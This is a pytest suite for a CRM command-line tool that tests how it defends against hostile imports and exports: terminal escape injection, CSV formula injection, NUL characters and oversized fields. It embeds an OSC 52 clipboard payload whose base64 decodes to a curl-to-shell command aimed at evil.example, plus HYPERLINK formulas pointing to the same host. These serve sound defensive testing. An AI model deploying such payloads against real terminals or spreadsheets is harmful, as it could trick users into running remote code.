"""Hostile import files and exports to a terminal (issue 21): each test performs the attack."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from conftest import Invoke
from tinycrm.cli import output

ESC_OSC52 = "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07"


def listed(cli: Invoke) -> list[dict[str, Any]]:
    result = cli("contacts", "list", "--json")
    assert result.exit_code == 0, result.stderr
    return json.loads(result.stdout)  # type: ignore[no-any-return]


def import_report(cli: Invoke, path: Path) -> dict[str, Any]:
    result = cli("contacts", "import", str(path), "--json")
    assert result.exit_code == 0, result.stderr
    return json.loads(result.stdout)  # type: ignore[no-any-return]


def test_a_cell_over_the_csv_limit_rejects_the_file_and_writes_nothing(
    cli: Invoke, tmp_path: Path
) -> None:
    long_note = "Ann Junk,junk@example.com\n" * 6000  # 156,000 characters, 6,000 lines
    path = tmp_path / "long.csv"
    with path.open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerows(
            [["name", "email", "note"], ["Ann", "ann@example.com", ""],
             ["Bob", "bob@example.com", long_note], ["Cid", "cid@example.com", ""]]
        )  # fmt: skip
    assert cli("contacts", "add", "Existing").exit_code == 0
    result = cli("contacts", "import", str(path))
    assert result.exit_code != 0
    assert "line 3" in result.stderr and "nothing imported" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    assert "Traceback" not in result.stderr
    assert [c["name"] for c in listed(cli)] == ["Existing"]


@pytest.fixture
def terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(output, "is_terminal", lambda: True)


@pytest.fixture
def hostile_contact(cli: Invoke, tmp_path: Path) -> None:
    path = tmp_path / "hostile.vcf"
    path.write_text(
        "BEGIN:VCARD\r\nVERSION:4.0\r\n"
        f"FN:Eve \x9b31m {ESC_OSC52}\r\nBDAY:19900101\r\n"
        f"NOTE:note \x9b31m {ESC_OSC52}\r\nEND:VCARD\r\n"
    )
    assert cli("contacts", "import", str(path)).exit_code == 0


@pytest.mark.parametrize(
    "command", [["contacts", "export"], ["contacts", "export", "-f", "csv"], ["export", "ics"]]
)
def test_exports_to_a_terminal_show_control_characters(
    cli: Invoke, hostile_contact: None, terminal: None, command: list[str]
) -> None:
    result = cli(*command)
    assert result.exit_code == 0, result.stderr
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "\x9b" not in result.stdout
    assert "␛]52" in result.stdout


@pytest.mark.parametrize("fmt", ["vcard", "csv"])
def test_exports_to_a_file_or_pipe_stay_faithful(
    cli: Invoke, hostile_contact: None, tmp_path: Path, fmt: str
) -> None:
    piped = cli("contacts", "export", "-f", fmt)
    assert "\x1b]52" in piped.stdout and "\x07" in piped.stdout and "\x9b" in piped.stdout
    out = tmp_path / f"out.{fmt}"
    assert cli("contacts", "export", "-f", fmt, "-o", str(out)).exit_code == 0
    assert out.read_bytes() == piped.stdout_bytes


def test_huge_cadence_in_a_vcard_rejects_that_card_only(cli: Invoke, tmp_path: Path) -> None:
    path = tmp_path / "cadence.vcf"
    path.write_text(
        "BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Ann\r\nX-TINYCRM-CADENCE:99999999\r\nEND:VCARD\r\n"
        "BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Bob\r\nX-TINYCRM-CADENCE:30\r\nEND:VCARD\r\n"
    )
    report = import_report(cli, path)
    assert [(r["where"], "cadence" in r["reason"]) for r in report["rejected"]] == [
        ("card 1 (line 1)", True)
    ]
    assert [(c["name"], c["cadence_days"]) for c in listed(cli)] == [("Bob", 30)]


def test_a_nul_in_a_name_is_replaced_visibly_and_reported(cli: Invoke, tmp_path: Path) -> None:
    path = tmp_path / "nul.vcf"
    path.write_text(
        "BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Nul\x00Name\\, Jr\r\nEND:VCARD\r\n"
        "BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Plain\\, Sr\r\nEND:VCARD\r\n"
    )
    report = import_report(cli, path)
    assert [(r["where"], r["name"]) for r in report["adjusted"]] == [
        ("card 1 (line 1)", "Nul␀Name, Jr")
    ]
    assert "NUL" in report["adjusted"][0]["reason"]
    assert sorted(c["name"] for c in listed(cli)) == ["Nul␀Name, Jr", "Plain, Sr"]
    exported = cli("contacts", "export").stdout
    second = tmp_path / "again.vcf"
    second.write_text(exported)
    again = tmp_path / "second.db"
    result = cli("--db", str(again), "contacts", "import", str(second), "--json")
    assert result.exit_code == 0, result.stderr
    assert json.loads(result.stdout)["adjusted"] == []
    names = json.loads(cli("--db", str(again), "contacts", "list", "--json").stdout)
    assert sorted(c["name"] for c in names) == ["Nul␀Name, Jr", "Plain, Sr"]


@pytest.mark.parametrize("start", ["＝", "＋", "－", "＠", "﹦", "﹢", "⁺"])
def test_look_alike_formula_starts_are_neutralised_and_restored(
    cli: Invoke, tmp_path: Path, start: str
) -> None:
    name = f'{start}HYPERLINK("http://evil.example","x")'
    assert cli("contacts", "add", name).exit_code == 0
    out = tmp_path / "out.csv"
    assert cli("contacts", "export", "-f", "csv", "-o", str(out)).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert rows[0]["name"] == "'" + name
    second = str(tmp_path / "second.db")
    assert cli("--db", second, "contacts", "import", str(out)).exit_code == 0
    names = json.loads(cli("--db", second, "contacts", "list", "--json").stdout)
    assert [c["name"] for c in names] == [name]


def test_a_nul_in_a_csv_cell_is_replaced_visibly_and_reported(cli: Invoke, tmp_path: Path) -> None:
    path = tmp_path / "nul.csv"
    path.write_text("name,email\nCsv\x00Nul,csv@example.com\n")
    report = import_report(cli, path)
    assert [(r["where"], r["reason"]) for r in report["adjusted"]] == [
        ("line 2", "name: NUL character replaced by ␀")
    ]
    assert [c["name"] for c in listed(cli)] == ["Csv␀Nul"]


def test_phones_and_dates_are_not_prefixed_but_formulas_are(cli: Invoke, tmp_path: Path) -> None:
    result = cli("contacts", "add", "Ann", "--phone", "+49 30 1234567", "--birthday", "--02-03",
                 "--company", "+SUM(A1)")  # fmt: skip
    assert result.exit_code == 0, result.stderr
    out = tmp_path / "out.csv"
    assert cli("contacts", "export", "-f", "csv", "-o", str(out)).exit_code == 0
    (row,) = list(csv.DictReader(io.StringIO(out.read_text())))
    assert (row["phones"], row["birthday"], row["company"]) == (
        "+49 30 1234567", "--02-03", "'+SUM(A1)"
    )  # fmt: skip


@pytest.mark.parametrize("size", ["0", "-1", "1.7e302", "nan", "inf"])
def test_an_impossible_max_size_is_one_line(cli: Invoke, tmp_path: Path, size: str) -> None:
    path = tmp_path / "a.csv"
    path.write_text("name\nAnn\n")
    result = cli("contacts", "import", str(path), "--max-size", size)
    assert result.exit_code == 2 and "--max-size" in result.stderr
    assert "Traceback" not in result.stderr
